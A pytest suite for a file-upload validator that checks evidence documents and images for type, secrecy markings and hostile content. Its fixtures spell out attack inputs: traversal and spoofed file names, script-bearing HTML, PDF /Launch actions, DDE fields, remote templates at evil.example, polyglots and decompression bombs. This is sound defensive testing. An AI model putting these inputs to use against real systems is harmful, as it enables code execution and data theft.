"""What is taken as evidence and what is not: the names and the contents of bad-inputs E3."""

import pytest

from rectification.evidence import confined, inspecting, naming
from rectification.evidence.naming import FileRefused, SecretRefused
from tests.rectification.evidence import files

SOUND = {
    "整改报告.pdf": files.pdf(5),
    "现场.jpg": files.picture("JPEG"),
    "现场2.jpeg": files.picture("JPEG"),
    "截图.png": files.picture(),
    "制度 V1.2 定稿.docx": files.word(),
    "台账.xlsx": files.workbook(),
    "汇报.pptx": files.slides(),
    "公文.ofd": files.ofd(),
}


def look(tmp_path, name: str, content: bytes):
    path = tmp_path / "file"
    path.write_bytes(content)
    return inspecting.inspect(path, name=name)


@pytest.mark.parametrize("name", SOUND)
def test_a_sound_file_is_what_its_name_says(tmp_path, name):
    found = look(tmp_path, name, SOUND[name])

    assert found.media_type == naming.MEDIA_TYPES[naming.extension_of(name)]
    assert found.not_public == ""


def test_the_pages_that_can_be_previewed_are_counted(tmp_path):
    assert look(tmp_path, "长.pdf", files.pdf(5)).pages == 3
    assert look(tmp_path, "短.pdf", files.pdf(2)).pages == 2
    assert look(tmp_path, "图.png", files.picture()).pages == 1
    assert look(tmp_path, "文.docx", files.word()).pages == 0


@pytest.mark.parametrize(
    "name",
    [
        "/etc/passwd",
        "C:\\Windows\\x",
        "..\\x.pdf",
        "",
        ".",
        ".pdf",
        "CON.pdf",
        "lpt1.x.pdf",
        "整" * 252 + ".pdf",
        '整改报告"; filename="x.html',
        "整改\u202efdp.exe",
        "整改\u202eexe.pdf",
        "整改\u200b.pdf",
        "整改\r\n.pdf",
        "a\x00.pdf",
        "a.php.pdf",
        "a.pdf.exe",
        "a.pdf ",
        "a.pdf.",
        "a.pdf::$DATA",
        "a.svg",
        "a.xml",
        "a.webp",
        "a.heic",
        "a.avif",
        "a.tiff",
        "a.docm",
        "a.xlsm",
        "a.ceb",
        "a.zip",
        "a.tar",
        "a.eml",
        "a.js",
        "a.lnk",
        "a.jar",
        "a.html",
        "a",
    ],
)
def test_a_bad_name_is_refused(name):
    with pytest.raises(FileRefused):
        naming.check(name)


@pytest.mark.parametrize("name", ["机密★3年.pdf", "【秘密】方案.docx", "绝密.png", "机 密 ★.pdf"])
def test_a_name_with_a_mark_of_secrecy_is_refused_without_repeating_it(name):
    with pytest.raises(SecretRefused) as refusal:
        naming.check(name)

    assert "★" not in str(refusal.value)


HOSTILE = {
    "empty": ("a.pdf", b""),
    "HTML named .pdf": ("a.pdf", b"<html><script>alert(1)</script></html>"),
    "SVG named .png": ("a.png", b'<svg xmlns="http://www.w3.org/2000/svg"/>'),
    "PDF with /Launch": ("a.pdf", files.pdf_with(launch=True)),
    "PDF with a hidden, escaped /Launch": ("a.pdf", files.pdf_hidden_launch()),
    "PDF with a script": ("a.pdf", files.pdf_with(script=True)),
    "PDF with embedded .exe": ("a.pdf", files.pdf_with(attachment="a.exe")),
    "PDF with a password": ("a.pdf", files.locked_pdf()),
    "PDF cut off": ("a.pdf", files.pdf()[:200]),
    "PDF+ZIP polyglot": ("a.pdf", files.pdf() + files.packed({"a": "b"})),
    "PDF inside .docx": ("a.docx", files.word()[:30] + b"%PDF-1.4" + files.word()[30:]),
    "GIFAR": ("a.jpg", files.picture("JPEG") + files.packed({"a.class": "b"})),
    "GIF with a JAR": ("a.png", files.picture("GIF") + files.packed({"a.class": "b"})),
    "JPEG named .png": ("a.png", files.picture("JPEG")),
    "PNG of 50,000 x 50,000": ("a.png", files.bomb_png()),
    "PNG of 8,000 x 8,000": ("a.png", files.bomb_png(8_000)),
    "PNG cut off": ("a.png", files.picture(size=(900, 900))[:200]),
    "WebP named .png": ("a.png", files.picture("WEBP")),
    "TIFF named .jpg": ("a.jpg", files.picture("TIFF")),
    "docm named .docx": ("a.docx", files.word_with({"word/vbaProject.bin": b"x"})),
    "xlsm named .xlsx": (
        "a.xlsx",
        files.packed(
            {"[Content_Types].xml": "application/vnd.ms-excel.sheet.macroEnabled.main+xml"}
        ),
    ),
    "xlsx named .docx": ("a.docx", files.workbook()),
    "docx with remote template": (
        "a.docx",
        files.word_with_relation("attachedTemplate", "http://evil.example/a.dotm"),
    ),
    "pptx with external video": (
        "a.pptx",
        files.slides(relations=files.relation("video", "http://evil.example/a.mp4")),
    ),
    "docx with a nested zip": ("a.docx", files.word_with({"word/42.zip": files.word()})),
    "docx with an OLE object": (
        "a.docx",
        files.word_with({"word/embeddings/oleObject1.bin": b"x"}),
    ),
    "docx that unpacks to a bomb": ("a.docx", files.bomb_word()),
    "docx with a symlink": ("a.docx", files.word_with_symlink()),
    "docx with a path upwards": ("a.docx", files.word_with({"../../x.xml": "<a/>"})),
    "docx with a DTD": (
        "a.docx",
        files.word_with({"word/x.xml": '<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'}),
    ),
    "docx with DDE": (
        "a.docx",
        files.word_with(
            {"word/document.xml": f'<a xmlns="{files.WORD}"><instrText>DDEAUTO c</instrText></a>'}
        ),
    ),
    "docx with DDE in a simple field": (
        "a.docx",
        files.word_with(
            {
                "word/footer1.xml": f'<w:ftr xmlns:w="{files.WORD}">'
                '<w:fldSimple w:instr="DDEAUTO c"/></w:ftr>'
            }
        ),
    ),
    "docx with DDE cut into runs": (
        "a.docx",
        files.word_with(
            {
                "word/document.xml": f'<a xmlns="{files.WORD}"><instrText>PAGE</instrText>'
                "<fldChar/>"
                "<instrText>D</instrText><instrText>DE c</instrText></a>"
            }
        ),
    ),
    "xlsx with DDE": (
        "a.docx",
        files.word_with({"xl/externalLinks/externalLink1.xml": "<a><ddeLink/></a>"}),
    ),
    "docx with an object under another name": (
        "a.docx",
        files.word_with({"word/media/a.dat": b"x", **files.inner_relation("oleObject", "a.dat")}),
    ),
    "docx that takes another text in": (
        "a.docx",
        files.word_with({"word/a.rtf": b"x", **files.inner_relation("aFChunk", "a.rtf")}),
    ),
    "docx with its text in a part that is not called XML": ("a.docx", files.word_elsewhere()),
    "OFD with its text in a part that is not called XML": (
        "a.ofd",
        files.ofd_with({"Doc_0/Content.dat": "\ufeff <a><TextCode>机密★</TextCode></a>"}),
    ),
    "docx with a password (OLE)": ("a.docx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600),
    ".exe named .docx": ("a.docx", b"MZ\x90\0" + b"\0" * 600),
    "broken OFD": ("a.ofd", files.ofd()[:100]),
    "ZIP named .ofd": ("a.ofd", files.packed({"a.txt": "b"})),
    "tar named .docx": ("a.docx", b"a.txt" + b"\0" * 2000),
    "text of a scan named .pdf": ("a.pdf", "机密★1年".encode()),
}


@pytest.mark.parametrize("case", HOSTILE)
def test_a_hostile_file_is_refused(tmp_path, case):
    name, content = HOSTILE[case]

    with pytest.raises(FileRefused) as refusal:
        look(tmp_path, name, content)

    assert str(refusal.value).endswith("。")


@pytest.mark.parametrize("case", ["PDF with /Launch", "PNG of 50,000 x 50,000"])
def test_a_child_process_refuses_in_the_same_words(tmp_path, case):
    name, content = HOSTILE[case]
    with pytest.raises(FileRefused) as here:
        look(tmp_path, name, content)

    with pytest.raises(FileRefused) as there:
        confined.inspect(tmp_path / "file", name=name)

    assert str(there.value) == str(here.value)


def test_a_child_process_says_the_same_of_a_sound_file_and_of_a_secret_one(tmp_path):
    found = look(tmp_path, "a.pdf", files.pdf(2))

    assert confined.inspect(tmp_path / "file", name="a.pdf") == found
    (tmp_path / "file").write_bytes(files.word("机密★3年"))
    with pytest.raises(SecretRefused):
        confined.inspect(tmp_path / "file", name="a.docx")


def test_a_file_that_ends_its_process_is_refused(tmp_path, monkeypatch):
    monkeypatch.setattr(confined, "MOST_WAIT", 0.01)

    with pytest.raises(FileRefused, match="没有保存"):
        confined.inspect(tmp_path / "absent", name="a.pdf")


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("a.pdf", files.pdf_saying("机密★3年")),
        ("a.docx", files.word("机密★3年")),
        ("b.docx", files.word("机  密 ★ 3 年")),
        ("a.xlsx", files.workbook("【秘密】名单")),
        ("a.pptx", files.slides("绝密★")),
        ("a.ofd", files.ofd("密级：机密")),
    ],
)
def test_a_file_with_a_mark_of_secrecy_is_refused(tmp_path, name, content):
    with pytest.raises(SecretRefused):
        look(tmp_path, name, content)


def test_ordinary_words_about_secrecy_are_no_mark(tmp_path):
    found = look(tmp_path, "保密工作制度.docx", files.word("加强保密工作，保守商业秘密。"))

    assert found.media_type == naming.MEDIA_TYPES["docx"]


def test_a_hyperlink_is_no_template(tmp_path):
    linked = files.word_with_relation("hyperlink", "https://www.gov.cn/")

    assert look(tmp_path, "a.docx", linked).media_type == naming.MEDIA_TYPES["docx"]


def test_a_chart_may_carry_its_workbook_and_nothing_deeper(tmp_path):
    inner = files.word_with({"word/embeddings/a.xlsx": files.workbook()})
    look(tmp_path, "a.docx", inner)

    with pytest.raises(FileRefused, match="嵌套"):
        look(tmp_path, "a.docx", files.word_with({"word/embeddings/a.docx": inner}))


def test_a_photograph_with_a_place_and_a_text_with_changes_are_not_for_the_public(tmp_path):
    assert "拍摄地点" in look(tmp_path, "a.jpg", files.picture("JPEG", gps=True)).not_public
    assert "修订" in look(tmp_path, "a.docx", files.word_with_changes()).not_public


def test_a_preview_is_a_small_picture_that_says_nothing_about_the_camera(tmp_path):
    path = tmp_path / "file"
    path.write_bytes(files.picture("JPEG", size=(3000, 2000), gps=True))

    shown = confined.preview(path, name="a.jpg", page=1)

    assert shown.startswith(b"\x89PNG")
    assert b"secret camera" not in shown
    assert b"eXIf" not in shown
